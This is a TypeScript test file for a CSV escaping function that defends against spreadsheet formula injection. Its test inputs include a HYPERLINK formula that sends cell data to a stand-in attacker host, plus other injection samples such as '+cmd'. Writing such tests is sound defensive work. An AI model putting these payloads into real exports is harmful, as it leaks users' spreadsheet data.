import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { csvCell, csvLine, readCsvCell } from './cell.ts';

// Issue 17 finding 8: cells a spreadsheet would run as formulas are neutralised (OWASP: a `'` prefix).

/** What a spreadsheet reading the CSV gets for the cell. */
const field = (cell: string) => (parse(`${cell}\n`) as string[][])[0]?.[0];

describe('csvCell', () => {
  it.each([
    ['=1+1', "'=1+1"],
    [
      '=HYPERLINK("https://evil.example/?"&A1,"Open")',
      '"\'=HYPERLINK(""https://evil.example/?""&A1,""Open"")"',
    ],
    ['+cmd', "'+cmd"],
    ['-2+3', "'-2+3"],
    ['@SUM(A1:A9)', "'@SUM(A1:A9)"],
    ['\t=1+1', "'\t=1+1"],
    ['\r=1+1', '"\'\r=1+1"'],
    ["'=1+1", "''=1+1"],
    ['-', "'-"],
  ])('%j is written as text: %j', (value, written) => {
    expect(csvCell(value)).toBe(written);
    expect(field(csvCell(value))?.startsWith("'")).toBe(true);
  });

  it.each(['-12.5', '-12', '+7', '0.25', '1234.50', -12.5, 3])('the number %j stays a number', (value) => {
    expect(csvCell(value)).toBe(String(value));
  });

  it.each(['plain', "'quoted", 'a,b', 'say "hi"', 'two\nlines', ' =not first', 'x=1', ''])(
    '%j is left alone apart from RFC 4180 quoting',
    (value) => {
      expect(field(csvCell(value)) ?? '').toBe(value);
      expect(csvCell(value).replace(/^"/, '').startsWith("'")).toBe(value.startsWith("'"));
    },
  );

  it('every value reads back as itself: what the prefix added, readCsvCell takes off', () => {
    const values = [
      '=1+1',
      '+x',
      '-x',
      '@x',
      '\tx',
      '\rx',
      "'=x",
      "''+x",
      "'plain",
      '-12.5',
      'plain',
      '-',
      "'",
    ];
    for (const v of values) expect(readCsvCell(field(csvCell(v)) ?? '')).toBe(v);
  });

  it('csvLine joins cells', () => {
    expect(csvLine([3, 'Category', '=evil()'])).toBe("3,Category,'=evil()");
  });
});
